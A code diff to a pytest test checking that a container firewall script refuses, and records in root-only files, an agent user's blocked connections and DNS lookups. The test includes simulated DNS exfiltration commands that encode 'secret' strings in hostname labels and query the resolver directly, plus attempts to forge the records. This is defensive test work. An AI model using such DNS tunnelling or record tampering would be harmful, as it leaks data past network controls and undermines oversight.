@@ -1,6 +1,7 @@
 """init-firewall.sh in a real container: what it blocks is recorded, with the names the
-lookups gave, in state only root can read. The names come from a DNS server of the test's own
-(a peer container), never from a public resolver."""
+lookups gave, in state only root can read; nothing leaves by DNS but lookups of allowed names.
+The names come from a DNS server of the test's own (a peer container, which logs every query it
+gets: what left the container by DNS), never from a public resolver."""
 
 from __future__ import annotations
 
@@ -23,6 +24,7 @@ while True:
         labels.append(query[at + 1 : at + 1 + query[at]].decode())
         at += query[at] + 1
     qtype = struct.unpack("!H", query[at + 1 : at + 3])[0]
+    print("asked", ".".join(labels).lower(), flush=True)
     question = query[12 : at + 5]
     known = ".".join(labels).lower() == "registry.aw.test"
     answer = b""
@@ -37,7 +39,7 @@ while True:
 
 
 @pytest.fixture
-def dns_server(docker_client: Any, peer_image: str, target: str) -> Iterator[str]:
+def dns_server(docker_client: Any, peer_image: str, target: str) -> Iterator[Any]:
     """A DNS server of the test's own: registry.aw.test is the target's address."""
     server = docker_client.containers.run(
         peer_image,
@@ -48,7 +50,7 @@ def dns_server(docker_client: Any, peer_image: str, target: str) -> Iterator[str
     )
     try:
         server.reload()
-        yield server.attrs["NetworkSettings"]["IPAddress"]
+        yield server
     finally:
         server.remove(force=True)
 
@@ -56,20 +58,25 @@ def dns_server(docker_client: Any, peer_image: str, target: str) -> Iterator[str
 AS_AGENT = "setpriv --reuid=agent --regid=agent --init-groups --no-new-privs"
 
 
-def test_blocked_destinations_are_recorded_with_the_names_looked_up(
-    docker_client: Any, command_image: str, dns_server: str, target: str
+def test_blocked_destinations_are_recorded_and_only_allowed_names_are_looked_up(
+    docker_client: Any, command_image: str, dns_server: Any, target: str
 ) -> None:
+    """registry.aw.test is allowed on port 9 only: its lookup goes on to the resolver, and a
+    connection to its port 8080 is blocked and named. A lookup of any other name (data in its
+    labels) is refused in the container and never reaches the resolver; nor does a query the
+    agent sends the resolver itself. Both are recorded, in state only root can read."""
+    resolver = dns_server.attrs["NetworkSettings"]["IPAddress"]
     script = f"""
-        /usr/local/bin/init-firewall.sh 2>/dev/null
-        # the recorder is not waited for (a run's agent starts well after it listens): here,
-        # wait until it listens
-        for i in $(seq 200); do ss -Hlun | grep -q '127.0.0.1:53 ' && break; sleep 0.05; done
+        AW_ALLOW_HOSTS=registry.aw.test:9 /usr/local/bin/init-firewall.sh 2>/dev/null
         {AS_AGENT} bash -c '
           for i in 1 2; do curl -s --max-time 5 http://registry.aw.test:8080/; echo "curl=$?"; done
-          getent hosts nowhere.aw.test; echo "unknown=$?"
+          getent hosts 7365637265742d31.exfil.aw.test; echo "exfil=$?"
+          dig +time=2 +tries=1 @{resolver} 7365637265742d32.direct.aw.test; echo "direct=$?"
           cat /run/agent-worker-names; echo "read=$?"
+          cat /run/agent-worker-refused; echo "read refused=$?"
           ipset save aw-blocked; echo "ipset=$?"
           echo "1.2.3.4 forged.example" >> /run/agent-worker-names; echo "write=$?"
+          echo "forged.example" >> /run/agent-worker-refused; echo "write refused=$?"
         ' 2>&1
         echo "report: $(/usr/local/bin/init-firewall.sh --report)"
     """
@@ -79,21 +86,25 @@ def test_blocked_destinations_are_recorded_with_the_names_looked_up(
         user="root",
         cap_drop=["ALL"],
         cap_add=["SETUID", "SETGID", "NET_ADMIN", "NET_RAW"],
-        dns=[dns_server],
+        dns=[resolver],
         remove=True,
     ).decode()
-    assert output.count("curl=7") == 2, output  # refused at once
-    assert "unknown=2" in output  # NXDOMAIN passed on as it came
-    assert "read=1" in output  # the record is root's
-    assert "ipset=1" in output
-    assert "write=1" in output
+    asked = dns_server.logs().decode()
+    assert output.count("curl=7") == 2, output  # resolved, then refused at once
+    assert "exfil=2" in output  # refused: no such name
+    assert "direct=9" in output  # dig: no server could be reached
+    for line in ("read=1", "read refused=1", "ipset=1", "write=1", "write refused=1"):
+        assert line in output, output  # the records are root's
+    assert "asked registry.aw.test" in asked  # what the resolver saw: the allowed name, only
+    assert "exfil" not in asked
+    assert "direct" not in asked
     report = json.loads(output.split("report: ", 1)[1])
-    assert report == [
-        {
-            "address": target,
-            "protocol": "tcp",
-            "port": 8080,
-            "count": 2,
-            "names": ["registry.aw.test"],
-        }
-    ]
+    found = {(e["address"], e["protocol"], e["port"], tuple(e["names"])): e for e in report}
+    assert set(found) == {
+        (target, "tcp", 8080, ("registry.aw.test",)),
+        ("", "dns", 53, ("7365637265742d31.exfil.aw.test",)),
+        (resolver, "udp", 53, ()),
+    }
+    assert found[(target, "tcp", 8080, ("registry.aw.test",))]["count"] == 2
+    assert found[("", "dns", 53, ("7365637265742d31.exfil.aw.test",))]["count"] >= 1
+    assert [e["count"] for e in report] == sorted((e["count"] for e in report), reverse=True)
